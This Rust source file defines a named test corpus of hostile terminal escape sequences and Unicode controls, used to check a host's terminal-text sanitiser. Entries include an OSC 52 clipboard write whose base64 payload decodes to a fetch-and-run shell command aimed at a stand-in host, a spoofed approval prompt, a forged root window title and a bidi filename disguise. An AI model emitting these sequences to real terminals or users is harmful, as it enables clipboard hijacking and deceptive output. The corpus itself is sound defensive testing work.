//! Escape sequences a hostile page, guest or model could print, by name:
//! what the host's terminal text (`sandtop_hostkit::term`) and every
//! prompt that shows such text are checked against.

/// The corpus: each sequence with its name.
pub fn corpus() -> Vec<(&'static str, String)> {
    let mut c: Vec<(&'static str, String)> = vec![
        ("CSI clear screen", "before\x1b[2J\x1b[Hafter".into()),
        (
            "CSI cursor up and erase line",
            "ok\x1b[1A\x1b[2Kfake".into(),
        ),
        (
            "OSC 52 clipboard write",
            "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07".into(),
        ),
        ("OSC 52 with ST", "\x1b]52;c;ZWNobyBodW50ZXIy\x1b\\".into()),
        (
            "OSC 8 hyperlink",
            "\x1b]8;;https://evil.test\x1b\\click\x1b]8;;\x1b\\".into(),
        ),
        ("window title", "\x1b]0;root@host\x07".into()),
        ("BEL", "ding\x07\x07".into()),
        ("backspaces", "no\x08\x08yes".into()),
        (
            "carriage return fake prompt",
            "working...\rApprove? Type `yes`: ".into(),
        ),
        ("DEL", "a\x7fb".into()),
        ("NUL and VT and FF", "a\0b\x0bc\x0cd".into()),
        ("8-bit CSI", "x\u{9b}2Jy".into()),
        ("8-bit OSC and ST", "\u{9d}52;c;Zm9v\u{9c}".into()),
        ("RLO bidi override", "invoice\u{202e}fdp.exe".into()),
        (
            "bidi isolates and embeddings",
            "\u{2066}a\u{2067}b\u{2068}c\u{2069}\u{202a}d\u{202b}e\u{202c}".into(),
        ),
        ("LRM RLM ALM", "\u{200e}x\u{200f}y\u{061c}".into()),
        ("zero width and BOM", "pay\u{200b}pal\u{feff}".into()),
        ("line separators", "one\u{2028}two\u{2029}".into()),
    ];
    // Every C1 control on its own.
    let c1: String = (0x80u32..=0x9f).filter_map(char::from_u32).collect();
    c.push(("all C1 controls", c1));
    let c0: String = (0u32..0x20).filter_map(char::from_u32).collect();
    c.push(("all C0 controls", c0));
    c
}
